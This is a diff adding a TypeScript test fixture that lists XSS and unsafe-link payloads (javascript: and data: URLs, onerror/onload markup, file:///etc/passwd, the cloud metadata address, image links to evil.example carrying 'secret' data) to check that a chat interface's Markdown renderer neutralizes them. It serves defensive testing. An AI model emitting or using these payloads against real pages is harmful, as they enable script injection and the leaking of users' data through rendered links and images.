@@ -1,0 +1,101 @@
+/** Addresses that must not be followed. */
+const SCHEMES = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  ' javascript:alert(1)',
+  'java\tscript:alert(1)',
+  'java\nscript:alert(1)',
+  '\u0001javascript:alert(1)',
+  'javascript&colon;alert(1)',
+  'javascript&#58;alert(1)',
+  'javascript&#x3a;alert(1)',
+  'javascript&#x3A;alert(1)',
+  'javascript&#0000058;alert(1)',
+  '&#106;avascript:alert(1)',
+  '&#x6a;avascript&colon;alert(1)',
+  'java&Tab;script:alert(1)',
+  'java&NewLine;script:alert(1)',
+  'java&#10;script:alert(1)',
+  'javascript%3Aalert(1)',
+  'javascript://nautobot.example/%0aalert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'DATA:text/html,x',
+  'vbscript:msgbox(1)',
+  'file:///etc/passwd',
+  'blob:https://nautobot.example/1',
+  'filesystem:https://nautobot.example/1',
+  'view-source:https://nautobot.example/',
+  'about:blank',
+  'ftp://nautobot.example/',
+  'ws://nautobot.example/',
+  'tel:+1',
+  'intent://nautobot.example/#Intent;end',
+  'chrome://settings',
+  '//evil.example/x',
+  '/dcim/devices/',
+  '?q=1',
+  '#x',
+  'https://evil.example/?q=secret',
+  'https://nautobot.example.evil.example/',
+  'https://nautobot.example@evil.example/',
+  'https://user:pass@nautobot.example/',
+  'https://nautobot.example:8443/',
+  'https:\\\\evil.example',
+  'https://evil.example\\@nautobot.example/',
+  'https&colon;//evil.example/?q=secret',
+  'http://169.254.169.254/latest/meta-data/'
+]
+
+const asLink = (address: string): string => `[click](<${address.replaceAll('\n', '&#10;')}>)`
+const asBareLink = (address: string): string => `[click](${address})`
+const asReference = (address: string): string => `[click][x]\n\n[x]: <${address}>`
+const asAutolink = (address: string): string => `<${address}>`
+
+/** Markup, images and links that must not become any. */
+export const MARKUP = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="https://nautobot.example/" onclick=alert(1)>x</a>',
+  '<form action=https://evil.example><button>x</button></form>',
+  '<style>*{background:url(https://evil.example)}</style>',
+  '<link rel=stylesheet href=https://evil.example>',
+  '<base href=https://evil.example>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<object data="javascript:alert(1)"></object>',
+  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<details open ontoggle=alert(1)>x</details>',
+  '![x](https://evil.example/?q=secret)',
+  '![x](javascript:alert(1))',
+  '![x" onerror="alert(1)](https://evil.example/x.png)',
+  '![x][y]\n\n[y]: https://evil.example/?q=secret',
+  '[![x](https://evil.example/a.png)](https://evil.example/)',
+  '**[![x](https://evil.example/a.png)](javascript:alert(1))**',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;img src=x onerror=alert(1)&#62;',
+  '`<img src=x onerror=alert(1)>`',
+  '```html\n<script>alert(1)</script>\n```',
+  '```"><img src=x onerror=alert(1)>\nx\n```',
+  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
+  '- [x] <img src=x onerror=alert(1)>',
+  '> <iframe src=https://evil.example>',
+  '# <img src=x onerror=alert(1)>',
+  '[<img src=x onerror=alert(1)>](https://evil.example/)',
+  '[x](https://evil.example/ "\\" onmouseover=alert(1)")',
+  '<https://evil.example/"onmouseover="alert(1)>',
+  '<ai-ops-chat base-url="https://evil.example"></ai-ops-chat>',
+  '<br onclick=alert(1)>',
+  '<input autofocus onfocus=alert(1)>'
+]
+
+/** All of them, each address in every form that Markdown has for a link. */
+export const PAYLOADS = [
+  ...SCHEMES.flatMap((address) => [asLink(address), asBareLink(address)]),
+  ...SCHEMES.map(asReference),
+  ...SCHEMES.map(asAutolink),
+  ...MARKUP
+]
